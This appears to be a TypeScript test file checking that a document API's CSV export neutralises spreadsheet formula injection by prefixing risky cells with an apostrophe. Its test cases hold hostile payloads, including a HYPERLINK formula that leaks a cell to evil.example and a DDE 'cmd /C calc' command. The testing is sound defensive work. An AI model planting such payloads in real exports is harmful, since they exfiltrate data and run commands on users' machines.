import { csvFile, neutralised } from '../../apps/api/src/http/csv';
import { ApiHarness, startApi } from '../support/api';
import { REGISTRATION } from '../support/harness';

/** The bytes of an export, without its BOM, split into lines. */
async function linesOf(file: ReturnType<typeof csvFile>): Promise<string[]> {
  const chunks: Buffer[] = [];
  for await (const chunk of file.getStream()) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks)
    .toString('utf8')
    .replace(/^\uFEFF/, '')
    .split('\r\n');
}

/**
 * Issue 10, finding 4: quoting a cell that starts with = + - @ does not stop a spreadsheet from running it. Such a
 * cell starts with an apostrophe instead (OWASP CSV injection), which spreadsheets show as text.
 */
describe('CSV formula injection', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`],
    ['+1', "'+1"],
    ['-1', "'-1"], // a plain negative number too: OWASP's rule has no exceptions, and Grif exports none
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['  =1+1', "'  =1+1"], // a spreadsheet that trims on import would run it
    ['\n@x', "'\n@x"],
    ['＝1+1', "'＝1+1"], // the full-width sign some spreadsheets take for =
  ])('%j becomes %j', (cell, shown) => {
    expect(neutralised(cell)).toBe(shown);
  });

  it.each(['1+1', 'К-0001/2026', 'a=b', 'e-mail: x@y.kg', '', '2026-11-26 14:05 +06:00', "'quoted already"])(
    '%j stays as it is',
    (cell) => {
      expect(neutralised(cell)).toBe(cell);
    },
  );

  it('in a file: the apostrophe goes first, inside the quotes, and the quotes still escape', async () => {
    const rows = [
      { title: '=HYPERLINK("http://x","y")', n: -1 },
      { title: '\t=1+1', n: 7 },
      { title: 'Буйрук', n: 0 },
    ];
    const file = csvFile(
      'test',
      [
        { header: 'Аталышы', value: (r: (typeof rows)[number]) => r.title },
        { header: 'N', value: (r: (typeof rows)[number]) => r.n },
      ],
      rows,
    );
    expect(await linesOf(file)).toEqual([
      'Аталышы,N',
      `"'=HYPERLINK(""http://x"",""y"")","'-1"`,
      `"'\t=1+1",7`,
      'Буйрук,0',
      '',
    ]);
  });
});

describe('CSV formula injection through the API: neutralised after the trim of the input', () => {
  let api: ApiHarness;
  beforeAll(async () => {
    api = await startApi();
  });
  afterAll(() => api?.close());

  it('a title typed as "\\t=1+1" is stored trimmed as "=1+1" and exported as text', async () => {
    const r = await api.call('clerk', 'POST', '/api/documents', {
      ...REGISTRATION,
      title: '\t=1+1 ',
      correspondent: " -2+3+cmd|' /C calc'!A0",
    });
    expect(r.status).toBe(201);
    const res = await fetch(`${api.base}/api/documents?format=csv&q=${encodeURIComponent('=1+1')}`, {
      headers: { authorization: `Bearer ${api.tokens.clerk}` },
    });
    expect(res.status).toBe(200);
    const row = (await res.text()).split('\r\n')[1]!;
    expect(row).toContain(`"'-2+3+cmd|' /C calc'!A0","'=1+1"`);
  });
});
